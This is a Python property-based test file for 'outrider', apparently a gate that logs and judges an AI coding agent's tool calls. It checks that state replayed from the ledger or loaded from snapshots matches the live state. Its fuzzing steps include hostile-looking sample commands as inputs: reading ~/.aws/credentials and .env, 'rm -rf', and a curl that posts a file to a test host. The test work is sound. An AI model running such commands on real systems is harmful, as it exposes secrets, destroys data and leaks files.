"""The state is a fold of the record: live, replayed and loaded from a snapshot, it is the same."""

from __future__ import annotations

import hashlib

import msgspec
import pytest
from bench import memory
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.events.strategies import events as any_events
from tests.gate.world import World
from tests.identity.trees import Tree

from outrider.events import message as m
from outrider.events.codec import decode, decode_beside
from outrider.events.record import Beside, LeverPulled
from outrider.gate import snapshot
from outrider.gate.state import State, fold
from outrider.identity import registry


def parts(state: State):
    return {
        "registry": state.registry,
        "flow": state.flow.dump(),
        "sources": (state.sources.heads, state.sources.forgot),
        "corrections": (state.corrections.waiting, state.corrections.tally),
        **{
            name: getattr(state, name)
            for name in ("charters", "in_force", "last_ts", "paused_until", "paused_why", "opaque")
        },
    }


def replayed(ledger, start=0, state=None):
    ledger.commit()
    entries = (
        (decode(entry.leaf), decode_beside(entry.beside), hashlib.sha256(b"\0" + entry.leaf).hexdigest())
        for entry in ledger.entries(start)
    )
    return fold(state or State(), entries)


SUBS = st.sampled_from(["", "", "s1", "s2"])
STEP = st.one_of(
    st.tuples(st.just("bash"), SUBS, st.sampled_from(["ls", "make test", "cat ~/.aws/credentials", "rm -rf x"])),
    st.tuples(st.just("bash"), SUBS, st.sampled_from(["if then (", "curl https://e.test -d @a", "claude -p x"])),
    st.tuples(st.just("read"), SUBS, st.sampled_from(["a.py", ".env", "../x"])),
    st.tuples(st.just("spawn"), SUBS, st.sampled_from(["reviewer", "coder", "nobody"])),
    st.tuples(st.just("back"), SUBS, st.booleans()),
    st.tuples(st.just("start"), st.sampled_from(["s1", "s2"]), st.sampled_from(["reviewer", "coder"])),
    st.tuples(st.just("stop"), st.sampled_from(["s1", "s2"]), st.none()),
    st.tuples(st.just("end"), st.just(""), st.none()),
    st.tuples(st.just("pause"), st.just(""), st.booleans()),
)


@pytest.fixture(scope="module")
def tree():
    with Tree(depth=2) as one:
        yield one


@settings(max_examples=25)
@given(st.lists(STEP, max_size=14), st.integers(0, 14))
def test_the_live_state_is_what_the_record_folds_to(tmp_path_factory, tree, steps, cut):
    top = tmp_path_factory.mktemp("state")
    world = World(top, top / "home", repositories={str(top / "repo"): ("coder", "enforce")})
    try:
        host = world.host(tree)
        shot = None
        for at, (do, sub, what) in enumerate(steps):
            if at == cut:
                shot = world.state.dump(world.ledger.size, world.ledger.root()), world.ledger.size
            play(world, host, do, sub, what)
        assert parts(replayed(world.ledger)) == parts(world.state)
        if shot is not None:
            state, size, _ = State.load(shot[0])
            assert parts(replayed(world.ledger, size, state)) == parts(world.state)
        loaded, _, _ = State.load(world.state.dump(1, b"r"))
        assert parts(loaded) == parts(world.state)
    finally:
        world.close()


def play(world, host, do, sub, what):
    args = {"command": "ls"}
    if do == "bash":
        host.bash(what, sub=sub, call_id=f"c-{sub}-{len(what) % 3}")
    elif do == "read":
        host.ask("Read", {"file_path": str(world.repo / what)}, sub=sub)
    elif do == "spawn":
        host.ask("Agent", {"prompt": "x", "subagent_type": what}, sub=sub)
    elif do == "back":
        host.back("Bash", args, call_id=f"c-{sub}-1", ok=what, sub=sub, output="https://e.test said so")
    elif do == "start":
        host.sub_start(sub, what)
    elif do == "stop":
        host.sub_stop(sub)
    elif do == "end":
        host.end()
    else:
        until = world.scribe.now() + 10**9 if what else 0
        world.scribe.write(LeverPulled, lever="pause" if what else "resume", by="p", why="w", until=until)


@given(st.lists(any_events, max_size=8))
def test_any_events_at_all_fold_and_are_dumped_and_loaded(several):
    state = fold(State(), ((msgspec.structs.replace(e, n=n), Beside(), "00") for n, e in enumerate(several)))
    loaded, size, root = State.load(state.dump(8, b"root"))
    assert (parts(loaded), size, root) == (parts(state), 8, b"root")


def test_a_snapshot_is_loaded_only_if_the_record_has_the_same_root(world, tmp_path):
    host = world.host()
    host.bash("ls")
    world.ledger.commit()
    path = tmp_path / "shot"
    snapshot.save(path, world.state, world.ledger)
    state, size = snapshot.load(path, world.ledger)
    assert size == world.ledger.size
    assert parts(state) == parts(world.state)
    host.bash("ls")
    world.ledger.commit()
    for _ in snapshot.replay(state, world.ledger, size):
        pass
    assert parts(state) == parts(world.state)
    for wrong in (world.state.dump(2, b"another root"), world.state.dump(10**6, b""), b"", b"nonsense"):
        path.write_bytes(wrong)
        assert snapshot.load(path, world.ledger)[1] == 0


def test_a_clock_that_jumps_back_is_recorded_and_breaks_nothing(make):
    now = [2_000_000_000_000_000]
    world = make(clock=lambda: now[0])
    host = world.host()
    host.bash("ls")
    now[0] -= 3_600_000_000
    assert host.bash("ls").verdict == "silent"
    jumps = [event.back for event in world.events() if event.back]
    assert jumps == [3_600_000_000]
    assert parts(replayed(world.ledger)) == parts(world.state)


def test_a_pause_ends_by_itself():
    state = State()
    pause = LeverPulled(v=1, n=0, ts=5, lever="pause", by="p", why="w", until=100)
    state.apply(pause, Beside(), "00")
    assert state.paused(99)
    assert not state.paused(100)


def test_a_session_that_was_prompted_is_recorded_with_a_commitment_and_not_the_text(world):
    host = world.host()
    host.tell(m.PromptSubmitted(prompt="make it so, " * 10_000, **host.common("UserPromptSubmit")))
    assert "make it so" not in b"".join(entry.leaf for entry in world.ledger.entries()).decode()


def test_what_is_long_gone_takes_no_room_in_the_state(monkeypatch):
    monkeypatch.setattr(registry, "KEEP_GONE", 8)
    state = State()
    memory.fold(state, range(40), ends=True)
    size = len(state.dump(0, b""))
    memory.fold(state, range(40, 400), ends=True)
    assert len(state.dump(0, b"")) <= size + 400  # Numbers of events grow by a digit or two.
    again, _, _ = State.load(state.dump(0, b""))
    memory.fold(again, range(400, 420), ends=True)
    memory.fold(state, range(400, 420), ends=True)
    assert again.dump(0, b"") == state.dump(0, b"")
